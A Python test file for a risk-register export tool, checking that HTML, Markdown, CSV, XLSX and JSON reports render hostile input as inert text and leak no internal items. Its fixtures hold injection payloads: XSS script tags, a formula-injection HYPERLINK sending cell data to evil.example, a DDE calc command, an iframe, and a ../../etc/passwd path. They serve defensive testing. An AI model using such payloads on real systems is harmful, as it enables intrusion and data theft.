"""Nothing escapes an export: hostile content stays text, internal items never leave.

Hostile content (formula cells, ``<script>``, ``../`` in names, very long text,
emoji, CSS in a matrix colour, Markdown links and images) is shown as text in
every format; a hypothesis property checks that no internal item, and no item
whose scope does not concern the recipient, appears in any report of any format.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from strategies import Contents, contents, fill, new_register

import riskreg
from riskreg import (
    Action,
    Category,
    Decision,
    Organisation,
    Rating,
    Risk,
    RiskMatrix,
    Scope,
    Validity,
    Visibility,
)
from riskreg.report.text import FORMULA_START

TODAY = date(2026, 11, 22)
LONG = ("Åäö 🏥 långt stycke om läkemedelslistor och vårdövergångar. " * 400)[:19_800]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")'
SCRIPT = "<script>alert('x')</script></style><img src=x onerror=alert(1)>"
DANGEROUS = ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tflik", "\nrad")


def fixed_today() -> date:
    return TODAY


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A register full of hostile text, with a hostile municipality 9999 of its own."""
    matrix = RiskMatrix.swedish_4x4()
    matrix = attrs.evolve(matrix, bands=tuple(
        attrs.evolve(b, colour="red;background:url(http://evil.example/x.png)")
        if b.key == "high" else b for b in matrix.bands))
    ond = Organisation("9999", "../../Ond <script>kommun</script>", association="Fyrbodal",
                       care_area="Fyrbodal")
    db = tmp_path / "db" / "riskreg.json"
    db.parent.mkdir()
    reg = riskreg.Register.create(
        db, name="Ond <b>register</b>", matrix=matrix, user="<script>anv</script>",
        categories=[Category("it", "IT <script>alert(1)</script> & [länk](javascript:x)")],
        organisations=[ond], today=fixed_today,
    )
    with reg.batch(why="fientligt innehåll"):
        reg.add_risk(Risk(
            key="R-001", title=HOSTILE_TITLE, area="it", inherent=Rating(3, 3),
            description=SCRIPT + "\n![bild](http://evil.example/x.png)\n# rubrik\n" + LONG,
            consequences=(*DANGEROUS, "../../etc/passwd", "| a | b |"),
            actions=(Action("=1+1", owner="@ägare", due=date(2027, 1, 1)),
                     Action("Åtgärd med emoji 😷 👩‍⚕️", owner="<b>fet</b>")),
            owner="-MAS", scope=Scope.municipalities("9999", "1480"), reported_by=("9999",),
            created=TODAY,
        ))
        reg.add_risk(Risk(key="R-002", title="Risk 😷 👩‍⚕️ i hemsjukvården " + "x" * 250,
                          area="it", inherent=Rating(4, 4), created=TODAY))
        reg.add_risk(Risk(key="R-003", title="HEMLIG intern risk", area="it",
                          inherent=Rating(2, 2), visibility=Visibility.INTERNAL, created=TODAY))
        reg.add_decision(Decision(
            key="KL-2022-01", decided_on=date(2022, 3, 1),
            title="<iframe src=//evil.example></iframe> {{ 7*7 }} {% raw %}",
            summary="@cmd|' /C calc'!A0", target_groups=("=MAS",), validity=Validity.APPLIES))
        reg.add_decision(Decision(
            key="KL-2022-02", decided_on=date(2022, 3, 2), title="HEMLIGT internt beslut",
            validity=Validity.SUSPENDED, visibility=Visibility.INTERNAL))
        reg.link("R-001", "mitigated_by", "KL-2022-02")
        reg.link("R-002", "mitigated_by", "KL-2022-02")
        reg.link("KL-2022-01", "depends_on", "KL-2022-02")
    reg.close()
    return db


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.chunks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)


def test_hostile_content_escapes_nothing(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with riskreg.Register.open(hostile, user="<script>anv</script>", today=fixed_today) as reg:
        manifest = riskreg.export_reports(reg, out, recipients="9999,1480")
    # file names safe, everything inside --out
    names = sorted(p.name for p in out.iterdir())
    assert "9999-ond-script-kommun-script.html" in names
    assert all(re.fullmatch(r"[0-9a-z.-]+", n) for n in names), names
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db", "out"]
    assert {f.path for f in manifest.files} | {"manifest.json"} == set(names)

    for path in out.glob("*.html"):
        raw = path.read_text("utf-8")
        parser = _Html()
        parser.feed(raw)
        assert not {"script", "iframe", "img", "link", "object", "embed"} & set(parser.tags)
        assert not [n for n, _v in parser.attrs if n.startswith("on")]
        css = raw[raw.index("<style>"):raw.index("</style>")]
        styles = " ".join(v for n, v in parser.attrs if n == "style")
        assert "url(" not in css + styles and "evil" not in css + styles
        assert not [v for n, v in parser.attrs if n in ("href", "src") and ":" in v]
        if path.name.startswith("9999"):
            text = "".join(parser.chunks)
            assert SCRIPT in text and HOSTILE_TITLE in text and "{{ 7*7 }}" in text
            assert LONG.strip()[:5000] in text  # very long text shown, not cut
            assert "😷 👩‍⚕️" in text
    for path in out.glob("*.md"):
        text = path.read_text("utf-8")
        body = re.sub(r"<!-- riskreg:stamp:(start|end) -->", "", text)
        assert not re.search(r"(?<!\\)<", body), "raw HTML in Markdown"
        assert not re.search(r"(?<!\\)!(?<!\\)\[", body) and "](javascript" not in body.replace(
            "\\]", "")
        assert not re.search(r"^#+ rubrik", body, re.M)
    for path in out.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""),
                               delimiter=";"))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (path.name, cell)
                assert len(cell) <= 32_767
        if path.name.startswith("9999"):
            titles = {r[1]: r[2] for r in rows[1:]}
            assert titles["R-001"] == "'" + HOSTILE_TITLE
    from openpyxl import load_workbook

    for path in out.glob("*.xlsx"):
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (sheet.title, cell.value)
        values = [c for s in book.worksheets for row in s.iter_rows(values_only=True) for c in row]
        if path.name.startswith("9999"):
            assert HOSTILE_TITLE in values and "@cmd|' /C calc'!A0" in values
    doc = json.loads((out / "9999-ond-script-kommun-script.json").read_text("utf-8"))
    risk = next(r for r in doc["risks"] if r["key"] == "R-001")
    assert risk["title"] == HOSTILE_TITLE and risk["description"].startswith(SCRIPT)
    assert doc["matrix"]["bands"][2]["colour"].startswith("#")
    # the internal decision mitigates both risks and is the base of a conflict: no trace of it
    for path in out.iterdir():
        data = path.read_bytes()
        text = _text_of(path.name, data)
        assert "KL-2022-02" not in text and "R-003" not in text and "HEMLIG" not in text


def _text_of(name: str, data: bytes) -> str:
    if name.endswith(".xlsx"):
        archive = zipfile.ZipFile(io.BytesIO(data))
        return "\n".join(archive.read(n).decode("utf-8") for n in archive.namelist())
    return data.decode("utf-8-sig")


# --- the property: nothing internal, nothing out of scope -

RECIPIENTS = ("1480", "1485", "1496")  # Göteborg, Uddevalla (Fyrbodal), Skövde (Skaraborg)


def _marked(content: Contents) -> Contents:
    """Internal items get a title no other text can contain, so a leak is unmistakable."""
    def mark(item: Risk | Decision) -> Risk | Decision:
        if item.visibility is Visibility.INTERNAL:
            return attrs.evolve(item, title=f"HEMLIGT {item.key} ✶")
        return item

    return Contents(tuple(mark(d) for d in content.decisions),  # type: ignore[misc]
                    tuple(mark(r) for r in content.risks), content.links)  # type: ignore[misc]


@settings(max_examples=15, deadline=None)
@given(content=contents(max_decisions=5, max_risks=6, max_links=10), lang=st.sampled_from(
    ["sv", "en"]))
def test_no_internal_or_out_of_scope_item_appears_in_any_report(
    tmp_path_factory: pytest.TempPathFactory, content: Contents, lang: str
) -> None:
    folder = tmp_path_factory.mktemp("leak")
    content = _marked(content)
    reg = new_register(folder / "riskreg.json")
    fill(reg, content)
    # export twice so the second edition's "changes" are covered too
    riskreg.export_reports(reg, folder / "first", recipients=",".join(RECIPIENTS), lang=lang,
                           formats="json")
    reg.update_risk(content.risks[0].key, owner="Ny ägare", why="t") if content.risks else None
    riskreg.export_reports(reg, folder / "out", recipients=",".join(RECIPIENTS), lang=lang)
    items = [*content.risks, *content.decisions]
    for code in RECIPIENTS:
        org = reg.directory.get(code)
        hidden = [i for i in items
                  if i.visibility is Visibility.INTERNAL or not i.scope.concerns(org)]
        for path in (folder / "out").glob(f"{code}-*"):
            text = _text_of(path.name, path.read_bytes())
            for item in hidden:
                assert not re.search(rf"(?<![\w-]){re.escape(item.key)}(?![\w-])", text), (
                    path.name, item.key, item.scope, item.visibility)
                if item.visibility is Visibility.INTERNAL:
                    assert item.title not in text, (path.name, item.title)
    for path in (folder / "out").glob("index.html"):
        text = path.read_text("utf-8")
        assert not any(i.key in text for i in items)  # the index names no item at all
    reg.close()
